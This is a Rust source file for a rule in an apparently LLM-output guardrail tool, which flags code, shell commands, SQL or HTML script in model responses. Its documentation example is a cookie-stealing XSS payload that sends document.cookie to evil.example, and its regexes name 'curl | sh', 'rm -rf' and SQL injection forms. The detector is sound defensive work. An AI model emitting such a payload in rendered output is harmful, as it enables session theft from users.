//! CO007: code, shell commands, SQL or HTML script in a response, for applications whose
//! policy forbids that kind of content (`output.forbid_code`). Off unless configured.

use std::sync::OnceLock;

use airm_core::{Reference, RuleDocs, RuleMeta, RuleStatus, RuleTarget, Severity};
use regex::Regex;
use serde::{Deserialize, Serialize};

use super::{Cx, Hit};
use crate::detect::lazy_regex;

/// Kinds of content an application may forbid in responses.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum CodeKind {
    /// Any fenced code block.
    Code,
    /// Shell commands.
    Shell,
    /// SQL statements.
    Sql,
    /// HTML `<script>`, `javascript:` URLs and inline event handlers.
    HtmlScript,
}

/// Metadata.
pub static META: RuleMeta = RuleMeta {
    id: "CO007",
    name: "forbidden-code",
    summary: "Response contains code, shell, SQL or HTML script the application forbids",
    target: RuleTarget::Completion,
    severity: Severity::Medium,
    status: RuleStatus::Preview,
    references: &[Reference::OwaspLlm("LLM05"), Reference::Cwe("CWE-79"), Reference::Cwe("CWE-78"), Reference::Cwe("CWE-89")],
    docs: RuleDocs {
        what: "Fenced code blocks, shell commands (`sudo`, `rm -rf`, `curl | sh`, shell fences), SQL statements, and `<script>`/`javascript:`/`onerror=` — only the kinds listed in `output.forbid_code`.",
        why: "Responses that are rendered, executed or passed to tools must not carry active content (improper output handling).",
        example: "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
        remediation: "Block or redact; escape output before rendering; never pipe model output to a shell or database.",
        false_positives: "Legitimate snippets in a support bot that was configured too strictly.",
    },
};

fn shell_re() -> Option<&'static Regex> {
    static CELL: OnceLock<Option<Regex>> = OnceLock::new();
    lazy_regex(
        &CELL,
        r"(?im)```(?:bash|sh|shell|zsh|console|powershell|ps1|cmd)(?-u:\b)|^\s*(?:\$|#)\s+(?:sudo|rm|curl|wget|chmod|apt|pip|npm|cd|ls|cat|echo)(?-u:\b)|(?-u:\b)rm\s+-rf(?-u:\b)|(?-u:\b)(?:curl|wget)(?-u:\b)[^\n|]{0,200}\|\s*(?:sudo\s+)?(?:ba)?sh(?-u:\b)",
    )
}
fn sql_re() -> Option<&'static Regex> {
    static CELL: OnceLock<Option<Regex>> = OnceLock::new();
    lazy_regex(
        &CELL,
        r"(?is)```sql(?-u:\b)|(?-u:\b)select(?-u:\b)[^;]{1,200}?(?-u:\b)from(?-u:\b)\s+\w|(?-u:\b)insert\s+into\s+\w|(?-u:\b)update\s+\w+\s+set(?-u:\b)|(?-u:\b)delete\s+from\s+\w|(?-u:\b)drop\s+(?:table|database)(?-u:\b)|(?-u:\b)create\s+table(?-u:\b)|(?-u:\b)union\s+select(?-u:\b)",
    )
}
fn html_re() -> Option<&'static Regex> {
    static CELL: OnceLock<Option<Regex>> = OnceLock::new();
    lazy_regex(
        &CELL,
        r#"(?i)<script(?-u:\b)|javascript:|(?-u:\b)on(?:error|load|click|mouseover|focus)\s*=\s*["']?|<iframe\b"#,
    )
}

/// Scans.
pub fn scan(cx: &Cx<'_>, out: &mut Vec<Hit>) {
    let forbid = &cx.compiled.forbid_code;
    if forbid.is_empty() {
        return;
    }
    let text = &cx.prepared.plain().clean;
    for kind in forbid {
        let found = match kind {
            CodeKind::Code => text.contains("```"),
            CodeKind::Shell => shell_re().is_some_and(|r| r.is_match(text)),
            CodeKind::Sql => sql_re().is_some_and(|r| r.is_match(text)),
            CodeKind::HtmlScript => html_re().is_some_and(|r| r.is_match(text)),
        };
        if found {
            let name = match kind {
                CodeKind::Code => "code block",
                CodeKind::Shell => "shell command",
                CodeKind::Sql => "SQL statement",
                CodeKind::HtmlScript => "HTML script",
            };
            out.push(Hit::on(
                cx.prepared.plain(),
                format!("{name} in the response"),
                1.0,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn patterns_compile() {
        assert!(
            super::shell_re().is_some() && super::sql_re().is_some() && super::html_re().is_some()
        );
    }
}
